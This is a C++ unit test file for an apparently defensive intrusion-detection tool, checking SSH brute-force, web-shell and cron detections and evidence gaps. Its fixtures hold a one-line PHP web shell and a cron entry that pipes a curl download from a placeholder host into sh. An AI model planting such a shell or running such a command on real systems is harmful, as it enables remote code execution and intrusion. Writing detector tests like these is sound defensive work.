#include <gtest/gtest.h>

#include <algorithm>

#include "mini_root.hpp"

namespace rescue::detect {
namespace {

Json investigate_loose(const MiniRoot& folder, InvestigationOptions options = {}) {
  const auto root = evidence::SafeRoot::open(folder.directory()).value();
  options.loose = true;
  return detect::investigate(root, options).document;
}

bool has_gap(const Json& document, const std::string& reason) {
  const auto& gaps = document.at("gaps");
  return std::any_of(gaps.begin(), gaps.end(), [&](const Json& gap) {
    return gap.at("reason").get<std::string>().find(reason) != std::string::npos;
  });
}

std::vector<std::string> rules_of(const Json& document) {
  std::vector<std::string> rules;
  for (const auto& finding : document.at("findings")) rules.push_back(finding.at("rule"));
  return rules;
}

std::string guessed_password() {
  std::string log;
  for (int i = 10; i < 50; ++i) {
    log += "2026-09-13T02:00:" + std::to_string(i) +
           "Z h sshd[1]: Failed password for u from 203.0.113.9 port 22 ssh2\n";
  }
  return log + "2026-09-13T02:01:00Z h sshd[2]: Accepted password for u from 203.0.113.9 port 22 ssh2\n";
}

TEST(LooseEvidence, ABreakInShowsInLogsAndFilesOfAnyName) {
  MiniRoot folder;
  folder.write("/from-customer/one", guessed_password());
  folder.write("/from-customer/two.txt", "<?php system($_GET['c']);");
  const auto document = investigate_loose(folder);
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "confirmed");
  const auto rules = rules_of(document);
  EXPECT_NE(std::find(rules.begin(), rules.end(), "ssh.guessed_login"), rules.end());
  EXPECT_NE(std::find(rules.begin(), rules.end(), "webshell.request_to_command"), rules.end());
}

TEST(LooseEvidence, WithoutADiskNothingIsCalledClean) {
  MiniRoot folder;
  folder.write("/auth.log", "2026-09-13T02:00:00Z h sshd[1]: Server listening on 0.0.0.0 port 22.\n");
  const auto document = investigate_loose(folder);
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "undetermined");
  EXPECT_TRUE(has_gap(document, "no server's disk"));
}

TEST(LooseEvidence, WhatCronRanIsToldForItselfAndNotAsVanished) {
  MiniRoot folder;
  folder.write("/log", "2026-09-13T02:00:00Z h CRON[1]: (root) CMD (curl -s http://203.0.113.9/x | sh)\n");
  EXPECT_EQ(rules_of(investigate_loose(folder)), (std::vector<std::string>{"cron.download_to_shell"}));
}

TEST(Investigation, OnlyTheFamiliesThatWereAskedForAreLookedFor) {
  MiniRoot folder;
  folder.write("/log", guessed_password());
  EXPECT_EQ(rules_of(investigate_loose(folder, {.only = {"cron"}})), std::vector<std::string>{});
  const auto names = detector_families();
  EXPECT_NE(std::find(names.begin(), names.end(), "cron"), names.end());
}

TEST(Investigation, AFileThatWasLeftOutIsAGapWhoeverWouldHaveReadIt) {
  MiniRoot folder;
  folder.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  auto root = std::move(evidence::SafeRoot::open(folder.directory())).value();
  const std::map<std::string, std::string> left_out = {{"/etc/os-release", "its reader died of it"}};
  root.leave_out(left_out);
  EXPECT_TRUE(has_gap(detect::investigate(root, {.left_out = left_out}).document, "its reader died of it"));
}

}  // namespace
}  // namespace rescue::detect
